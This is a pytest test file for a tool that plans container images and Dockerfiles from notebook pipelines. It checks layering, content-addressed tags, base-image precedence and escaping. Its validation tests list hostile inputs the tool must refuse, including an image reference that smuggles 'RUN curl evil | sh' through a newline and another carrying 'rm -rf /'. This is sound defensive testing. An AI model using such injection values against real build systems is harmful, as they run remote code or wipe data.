"""Image plans and Dockerfiles: layers, sharing, content digests, hostile values."""

from __future__ import annotations

import json
import shlex
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from image_fakes import fake_env

from kale_like.errors import InputError
from kale_like.images import plan_pipeline, write_dry_run_plans
from kale_like.images.context import dockerfile, label_value, validate_image_ref
from kale_like.images.environment import PythonEnvironment
from kale_like.model import Pipeline, Step, StepSettings

INSTRUCTIONS = {"FROM", "ENV", "COPY", "RUN", "LABEL", "USER"}
BASE = "kale-like/base:py3.11"


def three_steps(tmp_path: Path | None = None, **kw: object) -> Pipeline:
    steps = (
        Step("load", (1,), ("x = 1",), modules=("numpy",)),
        Step("train", (2,), ("import sklearn",), modules=("numpy", "sklearn")),
        Step("report", (3,), ("print(1)",), modules=("numpy", "json")),
    )
    nb = str(tmp_path / "nb.ipynb") if tmp_path else None
    return Pipeline(name="demo", steps=steps, python_version="3.11", notebook_path=nb, **kw)  # type: ignore[arg-type]


def parse(text: str) -> list[tuple[str, str]]:
    """(instruction, rest) of every non-comment line; fails on anything unexpected."""
    out = []
    for line in text.splitlines():
        if not line or line.startswith("#"):
            continue
        instr, _, rest = line.partition(" ")
        assert instr in INSTRUCTIONS, line
        out.append((instr, rest))
    return out


def test_steps_with_one_environment_share_an_image(env: PythonEnvironment) -> None:
    plan = plan_pipeline(three_steps(), env=env, base_image=BASE)
    assert len(plan.plans) == 2
    assert plan.images["load"] == plan.images["report"] != plan.images["train"]
    refs = {p.ref for p in plan.plans}
    assert all(r.startswith("kale-like/demo:sha-") and len(r.split(":sha-")[1]) == 12 for r in refs)


def test_layers_runtime_then_shared_then_step_then_code(env: PythonEnvironment) -> None:
    plan = plan_pipeline(three_steps(), env=env, base_image=BASE)
    train = next(p for p in plan.plans if "train" in p.steps)
    assert [layer.name for layer in train.layers] == ["runtime", "shared", "step"]
    assert train.layers[1].pins == ("numpy==2.4.6",)  # needed by every environment
    assert train.layers[2].pins == ("joblib==1.5.0", "scikit-learn==1.9.1", "scipy==1.16.0")
    ops = parse(dockerfile(train))
    kinds = [i for i, _ in ops]
    assert kinds[0] == "FROM" and ops[0][1] == BASE
    assert "ENTRYPOINT" not in dockerfile(train) and "CMD" not in kinds
    copies = [json.loads(rest) for i, rest in ops if i == "COPY"]
    assert [c[0] for c in copies] == [
        "wheels/runtime", "wheels/shared", "wheels/step", "kale_like", "app",
    ]  # fmt: skip
    assert kinds[-2:] == ["USER", "COPY"] and ops[-2][1] == "1000"  # code last, non-root
    for instr, rest in ops:
        if instr == "RUN":
            args = json.loads(rest)  # exec form: no shell parses any value
            assert args[:2] == ["python3", "-m"]


def test_digest_is_content_addressed(tmp_path: Path, env: PythonEnvironment) -> None:
    (tmp_path / "helpers.py").write_text("A = 1\n", encoding="utf-8")
    p = three_steps(tmp_path)
    p = replace(p, steps=(replace(p.steps[0], modules=("numpy", "helpers")), *p.steps[1:]))
    first = plan_pipeline(p, env=env, base_image=BASE)
    assert plan_pipeline(p, env=env, base_image=BASE).images == first.images
    # editing a step's cells changes no image: the code travels in the compiled pipeline
    edited = replace(p, steps=(replace(p.steps[0], sources=("x = 2",)), *p.steps[1:]))
    assert plan_pipeline(edited, env=env, base_image=BASE).images == first.images
    # editing a helper module changes only the images that copy it
    (tmp_path / "helpers.py").write_text("A = 2\n", encoding="utf-8")
    second = plan_pipeline(p, env=env, base_image=BASE)
    assert second.images["load"] != first.images["load"]
    assert second.images["train"] == first.images["train"]
    # a different pinned version changes the image
    newer = fake_env(numpy=("numpy", "2.5.0", ()))
    assert plan_pipeline(p, env=newer, base_image=BASE).images["train"] != first.images["train"]


def test_base_image_precedence(env: PythonEnvironment, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("KALE_LIKE_BASE_IMAGE", raising=False)
    p = replace(three_steps(), python_version="3.12.1")
    assert {x.base for x in plan_pipeline(p, env=env).plans} == {"python:3.12-slim"}
    monkeypatch.setenv("KALE_LIKE_BASE_IMAGE", "env/base:1")
    assert {x.base for x in plan_pipeline(p, env=env).plans} == {"env/base:1"}
    meta = replace(p, base_image="meta/base:2")
    assert {x.base for x in plan_pipeline(meta, env=env).plans} == {"meta/base:2"}
    assert {x.base for x in plan_pipeline(meta, env=env, base_image="cli/base:3").plans} == {
        "cli/base:3"
    }


def test_image_tag_used_as_is_unless_extended(env: PythonEnvironment) -> None:
    p = three_steps()
    own = replace(
        p.steps[1], settings=StepSettings(image="registry.example.com/team/trainer:1.2.3")
    )
    p = replace(p, steps=(p.steps[0], own, p.steps[2]))
    plan = plan_pipeline(p, env=env, base_image=BASE)
    assert plan.images["train"] == "registry.example.com/team/trainer:1.2.3"
    assert plan.as_is == {"train": "registry.example.com/team/trainer:1.2.3"}
    assert all("train" not in x.steps for x in plan.plans)
    extended = plan_pipeline(p, env=env, base_image=BASE, extend_images=True)
    [train] = [x for x in extended.plans if "train" in x.steps]
    assert train.base == "registry.example.com/team/trainer:1.2.3"
    assert extended.images["train"] == train.ref


def test_registry_prefix(env: PythonEnvironment) -> None:
    plan = plan_pipeline(three_steps(), env=env, base_image=BASE, registry="127.0.0.1:5000/team/")
    assert all(r.startswith("127.0.0.1:5000/team/demo:sha-") for r in plan.images.values())


@pytest.mark.parametrize(
    "ref",
    [
        "python:3.11\nRUN curl evil | sh",
        "python:3.11 AS x",
        "python;rm -rf /",
        "Python:3.11",
        '"python"',
        "python:3.11\r",
        "python:3.11\n",
        "a" * 300,
    ],
)
def test_hostile_image_refs_are_refused(env: PythonEnvironment, ref: str) -> None:
    with pytest.raises(InputError) as err:
        plan_pipeline(three_steps(), env=env, base_image=ref)
    assert err.value.exit_code == 2 and err.value.kind == "bad-image"
    p = three_steps()
    p = replace(p, steps=(replace(p.steps[0], settings=StepSettings(image=ref)), *p.steps[1:]))
    with pytest.raises(InputError):
        plan_pipeline(p, env=env, base_image=BASE)


@pytest.mark.parametrize("registry", ["127.0.0.1:5000/te am", "host/x\nRUN y", "a@sha256:1", "/"])
def test_hostile_registries_are_refused(env: PythonEnvironment, registry: str) -> None:
    with pytest.raises(InputError) as err:
        plan_pipeline(three_steps(), env=env, base_image=BASE, registry=registry)
    assert err.value.kind == "bad-registry"


@pytest.mark.parametrize(
    "ref",
    ["python:3.11-slim", "127.0.0.1:5000/team/base:1", "localhost/x/y@sha256:" + "a" * 64,
     "registry.example.com:443/a-b/c_d:v1.2"],
)  # fmt: skip
def test_valid_image_refs(ref: str) -> None:
    assert validate_image_ref(ref) == ref


@settings(max_examples=150, deadline=None)
@given(name=st.text(min_size=1, max_size=80))
def test_any_pipeline_name_stays_inside_its_label(name: str) -> None:
    env = fake_env()
    plan = plan_pipeline(replace(three_steps(), name=name), env=env, base_image=BASE)
    for p in plan.plans:
        ops = parse(dockerfile(p))  # every line still a known instruction
        labels = [rest for instr, rest in ops if instr == "LABEL"]
        assert len(labels) == 2
        key, value = shlex.split(labels[0].replace("=", " ", 1))
        assert key == "org.opencontainers.image.title"
        assert "$" not in value and "\\" not in value and "\n" not in value
    assert all(":sha-" in r and "\n" not in r for r in plan.images.values())


def test_label_value_escapes_everything_dangerous() -> None:
    assert label_value('a"b$c\\d\ne`f') == '"a_b_c_d_e_f"'


def test_dry_run_writes_dockerfiles_requirements_and_images_json(
    tmp_path: Path, env: PythonEnvironment
) -> None:
    plan = plan_pipeline(three_steps(), env=env, base_image=BASE)
    out = tmp_path / "build"
    write_dry_run_plans(plan, out)
    doc = json.loads((out / "images.json").read_text(encoding="utf-8"))
    assert doc["images"] == plan.images
    folders = sorted(p.name for p in out.iterdir() if p.is_dir())
    assert folders == sorted(p.tag for p in plan.plans)
    train = next(p for p in plan.plans if "train" in p.steps)
    reqs = (out / train.tag / "requirements.txt").read_text(encoding="utf-8").split()
    assert reqs == ["numpy==2.4.6", "scikit-learn==1.9.1"]
    assert (out / train.tag / "Dockerfile").read_text(encoding="utf-8") == dockerfile(train)
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".kale-like-build-")]
